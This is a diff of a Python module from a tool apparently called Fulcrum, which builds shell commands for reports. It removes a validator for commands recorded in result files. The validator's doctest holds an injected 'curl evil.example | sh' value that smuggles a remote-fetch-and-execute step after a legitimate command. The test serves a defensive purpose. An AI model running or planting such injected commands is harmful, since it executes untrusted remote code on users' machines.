@@ -15,9 +15,6 @@ from fulcrum.federation.structure import SILO
 from fulcrum.planning.plan import Plan
 from fulcrum.planning.recipes import BY_SILO, RECIPES
 
-_VERBS = ("audit", "compare", "follow", "simulate", "train", "up")
-"""The verbs of commands with results for a report."""
-
 
 def reproducing_commands(
     plan: Plan, *, trained: Sequence[str] = (), audited: str = "", answered: bool = False, written: str = ""
@@ -40,32 +37,6 @@ def reproducing_commands(
     report += [f"--date {written}"] if written else []
     made = [*trained, *([audited] if audited else [])]
     return [_planning_command(plan), "fulcrum verify plan.json", *made, f"{' '.join(report)} -o report.html"]
-
-
-def recorded_command(command: str, *, into: str) -> str:
-    """Returns the command in a file of results, or a comment in the place of a command that Fulcrum never writes.
-
-    The author of a foreign run or audit writes the file, and readers copy commands from a report into a shell. The
-    command must therefore be a single line of shell words in plain quotes, with a verb of Fulcrum for results.
-
-    >>> recorded_command("fulcrum train plan.json --data digits --seeds 2 -o run", into="run")
-    'fulcrum train plan.json --data digits --seeds 2 -o run'
-    >>> recorded_command("fulcrum train plan.json -o run; curl evil.example | sh", into="run")
-    '# made by a command that is not shown: it is none that Fulcrum writes'
-
-    Args:
-        command: The command in the file.
-        into: The folder for the results of the command.
-    """
-    try:
-        words = shlex.split(command)
-    except ValueError:
-        words = []
-    outputs = [word for word in words if word.startswith(("-o", "--output"))]
-    ours = words[:1] == ["fulcrum"] and words[1:2] and words[1] in _VERBS and words[-2:] == ["-o", into]
-    if ours and outputs == ["-o"] and command.isprintable() and shlex.join(words) == command:
-        return command
-    return "# made by a command that is not shown: it is none that Fulcrum writes"
 
 
 def _planning_command(plan: Plan) -> str:
